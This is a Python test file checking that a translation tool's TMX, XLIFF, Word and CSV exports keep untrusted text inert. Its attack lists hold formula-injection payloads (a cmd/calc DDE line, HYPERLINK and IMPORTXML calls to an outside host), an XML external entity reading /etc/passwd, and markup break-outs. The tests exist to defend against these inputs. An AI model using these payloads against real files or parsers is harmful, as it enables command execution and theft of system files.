"""TMX, XLIFF, DOCX and CSV: what a translator's tool, Word or a spreadsheet makes of a brief."""

from __future__ import annotations

import csv
import io
import zipfile
from collections import Counter
from itertools import cycle, islice
from pathlib import Path
from xml.etree import ElementTree

import docx
import pytest
from test_markup_safety import FIELDS, SINGLE, brief_of

from translate_tool.bitext.files import load
from translate_tool.bitext.pair import SentencePair
from translate_tool.errors import OutputError
from translate_tool.readers import docx as word
from translate_tool.records import (
    Article,
    Block,
    BlockKind,
    Brief,
    Flag,
    Hypothesis,
    Pair,
    Recipe,
    Sentence,
    SummaryLine,
    canonical,
)
from translate_tool.writers import FORMATS, Context
from translate_tool.writers.escape import visible

CONTEXT = Context(versions={"translate-tool": "1"}, notes=("Draft translation.",))
XLIFF = "{urn:oasis:names:tc:xliff:document:1.2}"
LANGUAGE = "{http://www.w3.org/XML/1998/namespace}lang"

NUMBER = Flag(kind="number", detail="3: not in the English")
LOOP = Flag(kind="repetition", detail="the the", severity="severe")
HUMAN = Flag(kind="human", detail="corrected by a person", severity="info")
FAILED = Flag(kind="failed", detail="out of memory", severity="severe")

ROWS: list[tuple[BlockKind, str, str, tuple[Flag, ...]]] = [
    ("title", "Le port rouvre.", "The port reopens.", ()),
    ("paragraph", "Trois navires attendent.", "Ships are waiting.", (NUMBER,)),
    ("paragraph", "Le maire a parlé.", "The the the mayor.", (LOOP,)),
    ("paragraph", "Il pleut.", "It is raining.", (HUMAN,)),
    ("paragraph", "Une phrase perdue.", "", (FAILED,)),
    ("code", "print(1)", "print(1)", ()),
    ("paragraph", "=1+1 & <b>", "=1+1 & <b>", ()),
]


def brief(origin: str = "ports/note.txt") -> Brief:
    return Brief(
        article=Article(
            origin=origin,
            title="Le port rouvre.",
            date="2024-06-06",
            blocks=tuple(Block(kind=kind, text=text) for kind, text, _, _ in ROWS),
        ),
        pairs=tuple(
            Pair(
                sentence=Sentence(article="id", block=n, index=0, text=french, gap=""),
                hypothesis=Hypothesis(text=english, score=-0.25),
                flags=flags,
            )
            for n, (_, french, english, flags) in enumerate(ROWS)
        ),
        summary=(SummaryLine(text="The port reopens.", sources=(1, 4)),),
        recipes=(Recipe(task="translate", engine="echo", model="echo"),),
    )


def render(name: str, made: Brief) -> bytes:
    content = FORMATS[name].render(made, CONTEXT)
    return content if isinstance(content, bytes) else content.encode("utf-8", "backslashreplace")


def test_a_memory_has_the_translated_rows_and_says_what_is_not_in_it(tmp_path: Path) -> None:
    path = tmp_path / "note.tmx"
    path.write_bytes(render("tmx", brief()))
    assert list(load(path)) == [
        SentencePair(french, english, document="ports/note.txt")
        for kind, french, english, _ in ROWS
        if english and kind != "code"
    ]
    root = ElementTree.parse(path).getroot()
    header = root.find("header")
    assert header is not None
    assert header.attrib["srclang"] == "fr"
    assert header.findtext("note") == "Draft translation. Rows left out, not translated: 2."
    second = root.findall("body/tu")[1]
    assert {prop.get("type"): prop.text for prop in second.findall("prop")} == {
        "x-origin": "ports/note.txt",
        "x-row": "2",
        "x-recipe": brief().recipes[0].signature,
        "x-flags": "number – 3: not in the English",
    }
    assert [tuv.get(LANGUAGE) for tuv in second.findall("tuv")] == ["fr", "en"]


def test_xliff_has_every_row_with_its_state_and_reasons() -> None:
    root = ElementTree.fromstring(render("xliff", brief()))
    file = root.find(f"{XLIFF}file")
    assert file is not None
    assert file.attrib["original"] == "ports/note.txt"
    units = list(root.iter(f"{XLIFF}trans-unit"))
    assert [unit.get("id") for unit in units] == [f"r{n}" for n in range(1, len(ROWS) + 1)]
    assert [unit.findtext(f"{XLIFF}source") for unit in units] == [row[1] for row in ROWS]
    assert [unit.findtext(f"{XLIFF}target") or "" for unit in units] == [row[2] for row in ROWS]
    assert [target.get("state") for unit in units for target in unit.findall(f"{XLIFF}target")] == [
        "translated",
        "needs-review-translation",
        "needs-review-translation",
        "final",
        "needs-translation",
        "final",
        "translated",
    ]
    assert [unit.get("translate") for unit in units].count("no") == 1
    notes = [(note.text, note.get("priority")) for note in units[1].findall(f"{XLIFF}note")]
    assert notes == [("number – 3: not in the English", "2")]


def test_word_shows_summary_review_and_both_languages() -> None:
    data = render("docx", brief())
    document = docx.Document(io.BytesIO(data))
    table = document.tables[0]
    cells = [[cell.text for cell in row.cells] for row in table.rows]
    assert cells[0] == ["#", "Français", "English"]
    assert [row[1] for row in cells[1:]] == [french for _, french, _, _ in ROWS]
    assert cells[2][2] == "Ships are waiting.\nnumber – 3: not in the English"
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    for expected in ("Draft translation.", "The port reopens. [1] [4]", "number – 3: not in"):
        assert expected in text
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    for row in (1, 4):
        assert f'w:anchor="r{row}"' in xml
        assert f'w:name="r{row}"' in xml
    assert document.core_properties.title == "The port reopens."
    [again] = word.read(data, "note.docx", {})
    assert [french for _, french, _, _ in ROWS if french not in str(again.blocks)] == []


def test_the_same_brief_gives_the_same_bytes() -> None:
    for name in FORMATS:
        assert render(name, brief()) == render(name, brief())


def test_a_title_that_word_finds_too_long_is_cut_in_the_properties_only() -> None:
    title = "Un titre sans fin " * 16
    document = docx.Document(io.BytesIO(render("docx", brief_of([title] * FIELDS))))
    assert title.upper().startswith(document.core_properties.title.upper())
    assert len(document.core_properties.title) == 255
    assert len(document.paragraphs[0].text) > 255


def test_word_documents_need_python_docx_and_say_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "docx", None)
    with pytest.raises(OutputError, match="needs python-docx") as caught:
        render("docx", brief())
    assert "translate-tool[formats]" in caught.value.hint


def test_a_table_opens_in_a_spreadsheet() -> None:
    text = render("csv", brief()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [int(row["row"]) for row in rows] == list(range(1, len(ROWS) + 1))
    assert [row["kind"] for row in rows] == [kind for kind, _, _, _ in ROWS]
    assert rows[1] == {
        "row": "2",
        "kind": "paragraph",
        "french": "Trois navires attendent.",
        "english": "Ships are waiting.",
        "severity": "warning",
        "flags": "number – 3: not in the English",
        "score": "-0.250",
    }
    assert rows[6]["french"] == "'=1+1 & <b>"


# -- attacks ---------------------------------------------------------------------------------------

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1"),
    *('=HYPERLINK("http://x.example","x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3"),
    *('@SUM(1+1)*cmd|x!A0', '",=1+1', '"\n=1+1', ";=1+1", "'=1+1", "''", "=", "+", "-", "@"),
    *("=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "%0A=1+1", "－1", "＠SUM(A1)"),
]  # fmt: skip
XML = [
    *("]]>", "<![CDATA[<x/>]]>", '<?xml version="1.0"?>', "<!ENTITY x SYSTEM 'file:///etc/passwd'>"),
    *("&x;", "&#0;", "&#xD800;", "</seg></tuv></tu>", "</target><target>", '" translate="no'),
    *("<bpt i='1'>", "<x id='1'/>", "</w:t></w:r>", "<w:fldSimple w:instr='DDE'/>", "{=1+1}"),
    *("<ph/>", "&quot;"),
]  # fmt: skip
ATTACKS = [*SINGLE, *FORMULAS, *XML]


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 300


@pytest.mark.parametrize("name", ["tmx", "xliff"])
def test_an_attack_stays_text_in_xml(name: str) -> None:
    """The same elements as for plain words, characters that XML lacks apart."""
    calm = _elements(render(name, brief_of(["mot"] * FIELDS)))
    for attack in ATTACKS:
        data = render(name, brief_of([attack] * FIELDS))
        assert _elements(data) == calm, attack
        shown = "".join(ElementTree.fromstring(data).itertext())
        if all(c.isprintable() or c == "\n" for c in attack):
            assert canonical(attack) in canonical(shown)


def _elements(data: bytes) -> Counter[str]:
    codes = ("ph", f"{XLIFF}x")
    return Counter(e.tag for e in ElementTree.fromstring(data).iter() if e.tag not in codes)


def test_an_attack_stays_text_in_word() -> None:
    def parts(texts: list[str]) -> tuple[Counter[str], dict[str, bytes], list[str]]:
        archive = zipfile.ZipFile(io.BytesIO(render("docx", brief_of(texts))))
        root = ElementTree.fromstring(archive.read("word/document.xml"))
        others = {
            name: archive.read(name)
            for name in archive.namelist()
            if name not in ("word/document.xml", "docProps/core.xml")
        }
        return Counter(element.tag for element in root.iter()), others, list(root.itertext())

    calm, others, _ = parts(["mot"] * FIELDS)
    for start in range(0, len(ATTACKS), FIELDS // 2):  # each comes by in two fields
        attacks = list(islice(cycle(ATTACKS), start, start + FIELDS))
        tags, rest, texts = parts([attack if visible(attack) else "mot" for attack in attacks])
        assert tags == calm, attacks
        assert rest == others, "no relation, macro or setting came with it"
        for pair in brief_of(attacks).pairs:
            assert visible(pair.sentence.text) in "".join(texts)
            assert visible(pair.hypothesis.text) in "".join(texts)


def test_no_cell_is_a_formula() -> None:
    for attack in ATTACKS:
        text = render("csv", brief_of([attack] * FIELDS)).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert {len(row) for row in rows} == {7}, attack
        assert len(rows) == 5, attack
        for row in rows[1:]:
            texts = [row[2], row[3], row[5]]
            assert not any(cell[:1] and cell[0] in "=+-@＝＋－＠\t\r" for cell in texts), attack
            assert visible(attack) in (row[3], row[3].removeprefix("'"))
